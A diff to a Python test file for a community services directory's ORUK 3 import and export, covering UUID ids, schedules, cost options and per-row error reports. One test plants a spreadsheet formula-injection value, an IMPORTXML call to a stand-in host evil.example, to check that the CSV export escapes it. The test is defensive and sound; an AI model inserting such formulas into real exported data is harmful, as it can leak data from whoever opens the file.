@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import uuid
 from datetime import date
 from pathlib import Path
 
@@ -26,6 +27,7 @@ from directory.models import (
 from directory.oruk import import_oruk
 from directory.oruk.csv_tables import export_oruk_csv
 from directory.oruk.documents import service_documents
+from directory.oruk.ids import NAMESPACE
 from directory.oruk.json_file import export_oruk_json
 from directory.seed import load_directory_csv
 from directory.taxonomy import ensure_taxonomy
@@ -95,21 +97,37 @@ def test_export_then_import_into_an_empty_directory_keeps_every_field(engine, di
         assert directory_rows(session) == directory
 
 
-def test_exported_json_is_oruk_shaped(engine) -> None:  # type: ignore[no-untyped-def]
+def _document(documents: list[dict], our_id: str) -> dict:
+    return next(doc for doc in documents if doc.get("x_signpost_id", doc["id"]) == our_id)
+
+
+def _place(document: dict, our_id: str) -> dict:
+    return next(link["location"] for link in document["service_at_locations"]
+                if link["location"].get("x_signpost_id") == our_id)
+
+
+def test_exported_json_is_oruk_3_shaped(engine) -> None:  # type: ignore[no-untyped-def]
     with session_scope(engine) as session:
         add_unusual_services(session)
-        document = next(doc for doc in service_documents(session) if doc["id"] == "every-field")
+        document = _document(service_documents(session), "every-field")
+    assert document["id"] == str(uuid.uuid5(NAMESPACE, "service:every-field"))
     assert document["organization"]["name"] == "Full Details Trust"
+    assert document["organization"]["phones"][0]["number"] == "01632 960500"
     assert document["status"] == "inactive"
     assert document["assured_date"] == "2024-02-29"
-    assert document["eligibilitys"][0]["minimum_age"] == 0
+    assert (document["minimum_age"], document["maximum_age"]) == (0, 17)
     assert document["contacts"][0]["phones"][0]["number"] == "01632 960501"
-    assert {link["taxonomy"]["id"] for link in document["service_taxonomys"]} == {"lunch_clubs", "loneliness"}
-    address = next(link["location"] for link in document["service_at_locations"]
-                   if link["location"]["id"] == "loc-coords")["physical_addresses"][0]
-    assert (address["city"], address["postal_code"]) == ("Holt", "NR25 6AA")
-    schedules = {(s["byday"], s["opens_at"], s["closes_at"]) for s in document["regular_schedules"]}
-    assert ("FR", "22:00", "24:00") in schedules and ("SA,SU", "10:00", "12:00") in schedules
+    terms = {link["taxonomy_term"].get("x_signpost_id") for link in document["attributes"]}
+    assert terms == {"lunch_clubs", "loneliness"}
+    address = _place(document, "loc-coords")["addresses"][0]
+    assert (address["city"], address["postal_code"], address["country"]) == ("Holt", "NR25 6AA", "GB")
+    assert _place(document, "loc-bare")["location_type"] == "physical" and "addresses" not in _place(
+        document, "loc-bare")
+    schedules = {(s["freq"], s["byday"], s["opens_at"], s["closes_at"]) for s in document["schedules"]}
+    assert ("WEEKLY", "FR", "22:00", "23:59") in schedules and ("WEEKLY", "SA,SU", "10:00", "12:00") in schedules
+    assert document["cost_options"][0] == {"id": document["cost_options"][0]["id"], "service_id": document["id"],
+                                           "option": "Paid", "amount": 5, "amount_description": "£5"}
+    assert {"url", "email"} <= set(document) and "" not in document.values() and None not in document.values()
 
 
 def _rewrite(path: Path, change) -> None:  # type: ignore[no-untyped-def]
@@ -127,33 +145,35 @@ def test_bad_csv_rows_name_file_and_row_and_the_rest_still_loads(engine, tmp_pat
         load_directory_csv(session, seed_sample(tmp_path / "sample.csv"))
         export_oruk_csv(session, tmp_path)
         empty_directory(session)
-    service_ids = [row["id"] for row in csv.DictReader((tmp_path / "services.csv").open())]
+    service_rows = list(csv.DictReader((tmp_path / "services.csv").open()))
+    service_ids = [row["id"] for row in service_rows]
+    our_ids = {row["id"]: row["x_signpost_id"] for row in service_rows}
 
     def break_services(rows: list[dict]) -> None:
         rows[0]["status"] = "maybe"  # spreadsheet row 2
         rows[1]["name"] = ""  # row 3
 
-    def break_eligibility(rows: list[dict]) -> None:
-        rows[4]["minimum_age"] = "adult"  # row 6
+    def break_schedule(rows: list[dict]) -> None:
+        rows[4]["opens_at"] = "adult"  # row 6
 
     _rewrite(tmp_path / "services.csv", break_services)
-    _rewrite(tmp_path / "eligibilities.csv", break_eligibility)
+    _rewrite(tmp_path / "schedule.csv", break_schedule)
     _rewrite(tmp_path / "phones.csv", lambda rows: rows.append({"id": "extra", "contact_id": "nobody"}))
     phone_rows = len(list(csv.DictReader((tmp_path / "phones.csv").open())))
-    eligibility_service = list(csv.DictReader((tmp_path / "eligibilities.csv").open()))[4]["service_id"]
+    schedule_service = list(csv.DictReader((tmp_path / "schedule.csv").open()))[4]["service_id"]
 
     with session_scope(engine) as session:
         report = import_oruk(session, tmp_path)
     reasons = {(error.reason.split(":")[0], error.row): error.reason for error in report.errors}
-    assert set(reasons) == {("services.csv", 2), ("services.csv", 3), ("eligibilities.csv", 6),
+    assert set(reasons) == {("services.csv", 2), ("services.csv", 3), ("schedule.csv", 6),
                             ("phones.csv", phone_rows + 1)}
     assert "maybe" in reasons[("services.csv", 2)]
     assert "name" in reasons[("services.csv", 3)]
-    assert "adult" in reasons[("eligibilities.csv", 6)] and "was not loaded" in reasons[("eligibilities.csv", 6)]
+    assert "adult" in reasons[("schedule.csv", 6)] and "was not loaded" in reasons[("schedule.csv", 6)]
     assert "nobody" in reasons[("phones.csv", phone_rows + 1)]
     with session_scope(engine) as session:
         loaded = {service.id for service in session.exec(select(Service)).all()}
-    assert loaded == set(service_ids) - {service_ids[0], service_ids[1], eligibility_service}
+    assert loaded == {our_ids[sid] for sid in set(service_ids) - {service_ids[0], service_ids[1], schedule_service}}
     assert report.loaded == len(loaded)
 
 
@@ -163,10 +183,10 @@ def test_a_bad_json_service_writes_nothing_not_even_its_organisation(engine, tmp
         documents = service_documents(session)
         empty_directory(session)
     broken = json.loads(json.dumps(documents[1]))
-    broken["id"] = "broken"
-    broken["organization"] = {**broken["organization"], "id": "org-only-in-broken", "name": "Half Written"}
-    place = next(link["location"] for link in broken["service_at_locations"] if link["location"]["id"] == "loc-coords")
-    place["physical_addresses"][0]["postal_code"] = "not a postcode"
+    broken["id"], broken["x_signpost_id"] = str(uuid.uuid4()), "broken"
+    broken["organization"] = {**broken["organization"], "id": str(uuid.uuid4()), "x_signpost_id": "org-only-in-broken",
+                              "name": "Half Written"}
+    _place(broken, "loc-coords")["addresses"][0]["postal_code"] = "not a postcode"
     source = tmp_path / "services.json"
     source.write_text(json.dumps([documents[0], broken, {"id": "no-name", "organization": documents[0]["organization"]},
                                   documents[1]]))
@@ -176,7 +196,8 @@ def test_a_bad_json_service_writes_nothing_not_even_its_organisation(engine, tmp
         assert {service.id for service in session.exec(select(Service)).all()} == {"bare", "every-field"}
     assert report.loaded == 2
     assert [error.row for error in report.errors] == [2, 3]
-    assert "not a postcode" in report.errors[0].reason and "service_at_locations[1]" in report.errors[0].reason
+    assert "not a postcode" in report.errors[0].reason
+    assert "service_at_locations[1].location.addresses[0]" in report.errors[0].reason
     assert "name" in report.errors[1].reason
 
 
@@ -207,7 +228,7 @@ def test_data_from_other_publishers_imports_with_sensible_defaults(engine, tmp_p
         report = import_oruk(session, source)
         service = session.get(Service, "3fa85f64-5717-4562-b3fc-2c963f66afa6")
     assert (report.loaded, report.errors) == (1, [])
-    assert service.opening_hours == "Tue,Thu 10:00-12:00"
+    assert service.opening_hours == "Tue,Thu 10:00-12:00; 1st Mon 14:00-16:00"  # monthly schedules are kept now
     assert service.capacity_status == Capacity.CLOSED and service.active is True
     assert service.cost == Cost.FREE and service.referral_route == ReferralRoute.EITHER
     assert service.access_methods == ["phone"] and service.phone == "01632 960777"
@@ -221,7 +242,7 @@ def test_oruk_csv_export_is_safe_to_open_in_a_spreadsheet(engine, tmp_path: Path
         session.get(Service, "bare").description = "=IMPORTXML(\"http://evil.example\",\"//a\")"
         export_oruk_csv(session, tmp_path)
         empty_directory(session)
-    row = next(row for row in csv.DictReader((tmp_path / "services.csv").open()) if row["id"] == "bare")
+    row = next(row for row in csv.DictReader((tmp_path / "services.csv").open()) if row["x_signpost_id"] == "bare")
     assert row["description"].startswith("'=")
     with session_scope(engine) as session:
         import_oruk(session, tmp_path)
